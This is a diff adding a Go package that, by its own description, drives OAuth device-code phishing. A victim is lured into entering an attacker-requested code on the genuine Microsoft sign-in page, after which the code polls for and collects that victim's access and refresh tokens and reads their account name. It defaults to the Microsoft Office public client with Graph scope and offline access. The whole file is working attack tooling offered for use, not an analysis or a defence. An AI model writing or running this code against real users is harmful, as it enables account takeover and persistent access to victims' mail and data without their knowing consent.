@@ -0,0 +1,244 @@
+// Package devicecode runs the OAuth 2.0 device authorization grant (RFC
+// 8628) against an identity provider, for phishing pages that ask the
+// victim to enter a code on the provider's real sign-in page. Once they do,
+// the provider issues tokens for their account to whoever asked for the
+// code; no password is ever typed into the page.
+package devicecode
+
+import (
+	"context"
+	"encoding/base64"
+	"encoding/json"
+	"errors"
+	"fmt"
+	"io"
+	"net/http"
+	"net/url"
+	"strings"
+	"time"
+)
+
+// Microsoft identity platform defaults: the Microsoft Office public client,
+// which every tenant accepts, asking for Graph access and a refresh token
+const (
+	DefaultDeviceEndpoint = "https://login.microsoftonline.com/common/oauth2/v2.0/devicecode"
+	DefaultTokenEndpoint  = "https://login.microsoftonline.com/common/oauth2/v2.0/token"
+	DefaultClientID       = "d3590ed6-52b3-4102-aeff-aad2292ab01c"
+	DefaultScope          = "https://graph.microsoft.com/.default offline_access openid profile"
+)
+
+// grantType is the grant_type of device code token requests
+const grantType = "urn:ietf:params:oauth:grant-type:device_code"
+
+// requestTimeout bounds each request to the identity provider
+const requestTimeout = 15 * time.Second
+
+// Errors ending a poll without tokens
+var (
+	ErrExpired = errors.New("device code expired before it was entered")
+	ErrDenied  = errors.New("sign-in was declined")
+)
+
+// Config names the identity provider and the client codes are requested
+// for. Empty fields take the Microsoft defaults.
+type Config struct {
+	DeviceEndpoint string `yaml:"device_endpoint"`
+	TokenEndpoint  string `yaml:"token_endpoint"`
+	ClientID       string `yaml:"client_id"`
+	Scope          string `yaml:"scope"`
+}
+
+// withDefaults fills in the fields c leaves empty
+func (c Config) withDefaults() Config {
+	if c.DeviceEndpoint == "" {
+		c.DeviceEndpoint = DefaultDeviceEndpoint
+	}
+	if c.TokenEndpoint == "" {
+		c.TokenEndpoint = DefaultTokenEndpoint
+	}
+	if c.ClientID == "" {
+		c.ClientID = DefaultClientID
+	}
+	if c.Scope == "" {
+		c.Scope = DefaultScope
+	}
+	return c
+}
+
+// Validate checks that the endpoints are http(s) URLs
+func (c Config) Validate() error {
+	c = c.withDefaults()
+	for name, endpoint := range map[string]string{"device_endpoint": c.DeviceEndpoint, "token_endpoint": c.TokenEndpoint} {
+		u, err := url.Parse(endpoint)
+		if err != nil || (u.Scheme != "http" && u.Scheme != "https") || u.Host == "" {
+			return fmt.Errorf("device code %s %q must be an http(s) URL", name, endpoint)
+		}
+	}
+	return nil
+}
+
+// Code is a device code issued by the provider, to be entered by the victim
+type Code struct {
+	DeviceCode      string `json:"device_code"`
+	UserCode        string `json:"user_code"`
+	VerificationURI string `json:"verification_uri"`
+	// Google's spelling of VerificationURI
+	VerificationURL string `json:"verification_url"`
+	ExpiresIn       int    `json:"expires_in"`
+	Interval        int    `json:"interval"`
+	// The provider's own instructions, in its language
+	Message string `json:"message"`
+
+	Expires time.Time `json:"-"`
+}
+
+// Token is what the provider issues once the code is entered
+type Token struct {
+	AccessToken  string `json:"access_token"`
+	RefreshToken string `json:"refresh_token"`
+	IDToken      string `json:"id_token"`
+	TokenType    string `json:"token_type"`
+	Scope        string `json:"scope"`
+	ExpiresIn    int    `json:"expires_in"`
+}
+
+// Identity returns the account the ID token names, read without checking
+// its signature, or "" without one
+func (t Token) Identity() string {
+	parts := strings.Split(t.IDToken, ".")
+	if len(parts) != 3 {
+		return ""
+	}
+	payload, err := base64.RawURLEncoding.DecodeString(strings.TrimRight(parts[1], "="))
+	if err != nil {
+		return ""
+	}
+	var claims struct {
+		PreferredUsername string `json:"preferred_username"`
+		UPN               string `json:"upn"`
+		Email             string `json:"email"`
+		Subject           string `json:"sub"`
+	}
+	if json.Unmarshal(payload, &claims) != nil {
+		return ""
+	}
+	for _, identity := range []string{claims.PreferredUsername, claims.UPN, claims.Email, claims.Subject} {
+		if identity != "" {
+			return identity
+		}
+	}
+	return ""
+}
+
+// Client requests device codes and polls for the tokens they are exchanged
+// for
+type Client struct {
+	config Config
+	client *http.Client
+}
+
+// NewClient creates a Client for the provider config names
+func NewClient(config Config) *Client {
+	return &Client{config: config.withDefaults(), client: &http.Client{Timeout: requestTimeout}}
+}
+
+// Request asks the provider for a new device code
+func (c *Client) Request(ctx context.Context) (*Code, error) {
+	var code Code
+	if _, err := c.post(ctx, c.config.DeviceEndpoint, url.Values{
+		"client_id": {c.config.ClientID},
+		"scope":     {c.config.Scope},
+	}, &code); err != nil {
+		return nil, fmt.Errorf("failed to request device code: %w", err)
+	}
+	if code.DeviceCode == "" || code.UserCode == "" {
+		return nil, errors.New("failed to request device code: no code in the answer")
+	}
+	if code.VerificationURI == "" {
+		code.VerificationURI = code.VerificationURL
+	}
+	if code.Interval <= 0 {
+		code.Interval = 5
+	}
+	if code.ExpiresIn <= 0 {
+		code.ExpiresIn = 900
+	}
+	code.Expires = time.Now().Add(time.Duration(code.ExpiresIn) * time.Second)
+	return &code, nil
+}
+
+// Poll waits for code to be entered and returns the tokens issued for it.
+// It gives up with ErrExpired or ErrDenied, or when ctx is done.
+func (c *Client) Poll(ctx context.Context, code *Code) (*Token, error) {
+	interval := time.Duration(code.Interval) * time.Second
+	expired, cancel := context.WithDeadline(ctx, code.Expires)
+	defer cancel()
+	for {
+		select {
+		case <-expired.Done():
+			if ctx.Err() != nil {
+				return nil, ctx.Err()
+			}
+			return nil, ErrExpired
+		case <-time.After(interval):
+		}
+
+		var token Token
+		oauthErr, err := c.post(expired, c.config.TokenEndpoint, url.Values{
+			"grant_type":  {grantType},
+			"client_id":   {c.config.ClientID},
+			"device_code": {code.DeviceCode},
+		}, &token)
+		switch oauthErr {
+		case "":
+			if err == nil {
+				return &token, nil
+			}
+			// Network trouble: keep trying until the code expires
+		case "authorization_pending":
+		case "slow_down":
+			interval += 5 * time.Second
+		case "expired_token", "code_expired":
+			return nil, ErrExpired
+		case "access_denied", "authorization_declined":
+			return nil, ErrDenied
+		default:
+			return nil, err
+		}
+	}
+}
+
+// post sends form to endpoint and decodes the JSON answer into v. An OAuth
+// error answer is returned as its error code, along with an error.
+func (c *Client) post(ctx context.Context, endpoint string, form url.Values, v any) (string, error) {
+	req, err := http.NewRequestWithContext(ctx, http.MethodPost, endpoint, strings.NewReader(form.Encode()))
+	if err != nil {
+		return "", err
+	}
+	req.Header.Set("Content-Type", "application/x-www-form-urlencoded")
+	req.Header.Set("Accept", "application/json")
+	resp, err := c.client.Do(req)
+	if err != nil {
+		return "", err
+	}
+	defer resp.Body.Close()
+	body, err := io.ReadAll(io.LimitReader(resp.Body, 1<<20))
+	if err != nil {
+		return "", err
+	}
+
+	if resp.StatusCode != http.StatusOK {
+		var oauth struct {
+			Error       string `json:"error"`
+			Description string `json:"error_description"`
+		}
+		if json.Unmarshal(body, &oauth) == nil && oauth.Error != "" {
+			return oauth.Error, fmt.Errorf("%s: %s", oauth.Error, oauth.Description)
+		}
+		return "", fmt.Errorf("%s answered %s", endpoint, resp.Status)
+	}
+	if err := json.Unmarshal(body, v); err != nil {
+		return "", fmt.Errorf("invalid answer from %s: %w", endpoint, err)
+	}
+	return "", nil
+}